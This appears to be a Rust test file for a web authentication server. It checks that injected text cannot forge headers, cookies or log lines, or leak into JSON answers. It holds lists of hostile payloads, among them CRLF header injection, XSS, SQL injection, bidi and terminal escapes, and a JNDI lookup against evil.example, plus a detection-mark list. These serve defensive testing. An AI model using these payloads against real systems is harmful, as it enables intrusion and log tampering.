//! Text that tries to be something else: a header, a log line, a page.

use std::io::Write;
use std::sync::Arc;

use http::HeaderValue;
use parking_lot::Mutex;
use serde_json::json;
use tracing_subscriber::fmt::MakeWriter;
use wayleave_server::config::{CookieDomain, CookieName};

use super::{ANN, cookies};
use crate::support::{Answer, request};
use crate::world::{PASSWORD, World};

/// Line breaks, ends of strings, terminal escapes, turned text, markup.
const HOSTILE: [&str; 14] = [
    "x\r\nSet-Cookie: __Host-id=forged",
    "x\nlevel=INFO forged",
    "x\rforged",
    "x\0y",
    "x\u{1b}[2Jgone",
    "x\u{9b}31m",
    "x\u{85}forged",
    "x\u{202e}nimda",
    "x\u{2028}forged",
    "x; Domain=evil.example",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "${jndi:ldap://evil.example/a}",
    "%0d%0aSet-Cookie:%20a=b",
];

/// What gives the hostile texts away, in lower case. No random id or token holds one of them by chance.
const MARKS: [&str; 7] = ["evil.example", "forged", "<script", "\u{202e}", "<img", "jndi:", "onerror"];

fn assert_clean(answer: &Answer, what: &str) {
    for (name, value) in &answer.headers {
        assert!(value.as_bytes().iter().all(|byte| (0x20..0x7f).contains(byte)), "{what}: {name}");
        let text = value.to_str().unwrap().to_lowercase();
        for part in MARKS {
            assert!(!text.contains(part), "{what}: {name}: {text}");
        }
    }
    assert!(answer.status.as_u16() < 500, "{what}: {}", answer.status);
    let kind = answer.header("content-type").unwrap_or_default();
    assert_eq!(kind, "application/json", "{what}");
}

/// A08: names and addresses with line breaks, NUL or separators never become a header, and are no server error.
#[tokio::test]
async fn hostile_names_and_addresses_stay_text() {
    let world = World::new().await;
    let mut admin = world.administrator().await;
    let mut settings = admin.get("/api/admin/settings").await.json()["data"].clone();
    settings["policy"]["registration"] = json!("open");
    assert_eq!(admin.put("/api/admin/settings", &settings).await.status, 200);
    for (count, text) in HOSTILE.into_iter().enumerate() {
        let is_control = text.chars().any(char::is_control);
        let is_hidden = is_control || text.chars().any(is_invisible);
        let email = format!("{text}@example.com");
        let answer = world
            .client()
            .post("/api/auth/login", &json!({ "email": email, "password": PASSWORD, "transport": "bearer" }))
            .await;
        assert_clean(&answer, text);
        assert_eq!((answer.status.as_u16(), answer.code()), (401, "invalid_credentials".into()), "{text:?}");
        let person = |email: &str, name: &str| json!({ "email": email, "name": name, "password": PASSWORD });
        let answer = world.client().post("/api/auth/register", &person(&email, "Ann")).await;
        assert_clean(&answer, text);
        assert!(!is_control || answer.status == 422, "{text:?}: {}", answer.status);
        let plain = format!("p{count}@example.com");
        let answer = world.client().post("/api/auth/register", &person(&plain, text)).await;
        assert_clean(&answer, text);
        assert_eq!(answer.status, if is_hidden { 422 } else { 201 }, "{text:?}");
        if !is_hidden {
            let mut client = world.signed_in(&plain).await;
            let answer = client.get("/api/auth/user").await;
            assert_clean(&answer, text);
            assert_eq!(answer.json()["data"]["name"], text.trim());
        }
        let answer = world.client().get("/api/auth/verify?permission=x%0d%0aforged:%20y").await;
        assert_clean(&answer, text);
        let target: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for path in ["/", "/api/auth/", "/api/auth/sessions/", "/api/auth/sessions?after="] {
            assert_clean(&admin.get(&format!("{path}{target}")).await, text);
        }
        let answer = admin.get(&format!("/api/auth/verify?permission={target}")).await;
        assert_clean(&answer, text);
        assert_eq!(answer.status, 403, "{text:?}");
    }
}

/// A08: what configuration puts into cookies cannot break out of them.
#[test]
fn hostile_cookie_settings_are_refused() {
    for text in ["id; Domain=evil", "id\r\nX: y", "id\0", "id=evil", "", "id ", "\"id\"", "sess\u{ed}on"] {
        assert!(text.parse::<CookieName>().is_err(), "{text:?}");
    }
    for text in
        ["evil.example; Path=/", "evil.example\r\nX: y", "e\0.example", ".example.com", "com", "a b.example", ""]
    {
        assert!(text.parse::<CookieDomain>().is_err(), "{text:?}");
    }
}

/// A20: whatever the `User-Agent` says, the list of sessions shows a label of our own words, or none.
#[tokio::test]
async fn user_agents_become_our_own_words() {
    let world = World::new().await;
    world.person(ANN, &[]).await;
    let long = "Firefox/1 ".repeat(3000);
    let agents = [
        ("Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0", Some("Firefox on Linux")),
        ("Firefox/1 <script>alert(1)</script> Linux", Some("Firefox on Linux")),
        ("<script>alert(1)</script>", None),
        ("\"};alert(1);//", None),
        ("${jndi:ldap://evil.example/a}", None),
        ("' OR 1=1 --", None),
        (&long[..20_000], Some("Firefox")),
    ];
    for (agent, label) in agents {
        let mut client = world.client();
        client.fields.push(("user-agent".into(), agent.into()));
        assert_eq!(client.sign_in(ANN, PASSWORD).await.status, 200, "{:.40}", agent);
        let answer = client.get("/api/auth/sessions/current").await;
        assert_clean(&answer, "an agent");
        assert_eq!(answer.json()["data"]["device"].as_str(), label, "{agent:.40}");
    }
    // What is no text at all is no reason to refuse.
    let mut client = world.client();
    client.get("/api/csrf").await;
    let mut login = client.request("POST /api/auth/login", Some(&json!({ "email": ANN, "password": PASSWORD })));
    let bytes = b"Firefox/1 \xff\xfe\x9b31m Linux";
    login.headers_mut().insert("user-agent", HeaderValue::from_bytes(bytes).unwrap());
    let answer = client.ask_as_is(login).await;
    assert_eq!(answer.status, 200);
    assert!(cookies(&answer).contains_key(super::SESSION));
}

/// A20: a label that a trusted backend gives is bounded, without control characters, and comes back as JSON.
#[tokio::test]
async fn device_labels_are_bounded_text() {
    let world = World::new().await;
    let mut admin = world.administrator().await;
    let body = json!({ "name": "shop", "permissions": ["read:profile"], "expires_in": 3600 });
    let answer = admin.post("/api/admin/service-keys", &body).await;
    assert_eq!(answer.status, 201, "{}", String::from_utf8_lossy(&answer.body));
    let mut service = world.client();
    service.bearer = Some(answer.json()["data"]["secret"].as_str().unwrap().to_owned());
    let (fits, too_long) = ("d".repeat(256), "d".repeat(257));
    let mut labels = HOSTILE.map(|text| (text, !text.chars().any(|c| c.is_control() || is_invisible(c)))).to_vec();
    labels.extend([(fits.as_str(), true), (too_long.as_str(), false)]);
    for (label, accepted) in labels {
        let body = json!({ "subject": "customer-17", "device": label });
        let answer = service.post("/api/auth/sessions", &body).await;
        assert_clean(&answer, label);
        assert_eq!(answer.status, if accepted { 201 } else { 422 }, "{label:?}");
        if accepted {
            let mut client = world.client();
            client.bearer = Some(answer.json()["data"]["session_token"].as_str().unwrap().to_owned());
            let listed = client.get("/api/auth/sessions/current").await;
            assert_clean(&listed, label);
            assert_eq!(listed.json()["data"]["device"], label);
        }
    }
}

const fn is_invisible(character: char) -> bool {
    matches!(character, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
}

/// Everything that is logged.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl<'a> MakeWriter<'a> for Log {
    type Writer = Self;

    fn make_writer(&'a self) -> Self {
        self.clone()
    }
}

/// R165, A08, A20: whatever a request says, each request is one line, and no line holds a control character, a turning
/// one, or words that the request chose.
#[tokio::test]
async fn nothing_of_a_request_forges_a_log_line() {
    // With one subscriber alone, what other threads of the process do without any decides what is logged here.
    let _another = tracing::Dispatch::new(tracing::subscriber::NoSubscriber::default());
    let log = Log::default();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_ansi(false)
        .with_writer(log.clone())
        .finish();
    let _guard = tracing::subscriber::set_default(subscriber);
    let world = World::new().await;
    world.person(ANN, &[]).await;
    let mut client = world.signed_in(ANN).await;
    log.0.lock().clear();
    let mut answered = 0;
    for text in HOSTILE {
        let target: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        client.get(&format!("/{target}?{target}={target}")).await;
        client.delete(&format!("/api/auth/sessions/{target}")).await;
        let body = json!({ "email": format!("{text}@x.example"), "password": text, "transport": "bearer" });
        world.client().post("/api/auth/login", &body).await;
        world.client().post("/api/auth/register", &json!({ "email": text, "password": text, "name": text })).await;
        world.client().post("/api/auth/login", &json!({ text: text })).await;
        answered += 5;
        let mut fields = request("GET /api/auth/session", &[], "");
        // What a header can carry at all: everything but control characters.
        let bytes: Vec<u8> = text.bytes().filter(|byte| *byte >= 0x20 && *byte != 0x7f).collect();
        for name in ["user-agent", "origin", "referer", "x-request-id", "x-forwarded-for", "host", "cookie", "accept"] {
            fields.headers_mut().insert(name, HeaderValue::from_bytes(&bytes).unwrap());
        }
        world.client().ask_as_is(fields).await;
        answered += 1;
    }
    world.settle().await;
    let text = String::from_utf8(log.0.lock().clone()).expect("the log is text");
    assert_eq!(text.matches(" answered").count(), answered, "one line for each request");
    for line in text.lines() {
        assert!(line.starts_with("20") && line.contains(" wayleave"), "not a line of ours: {line:?}");
        assert!(!line.chars().any(|c| c.is_control() || is_invisible(c)), "{line:?}");
        for part in MARKS {
            assert!(!line.contains(part), "{line}");
        }
    }
}
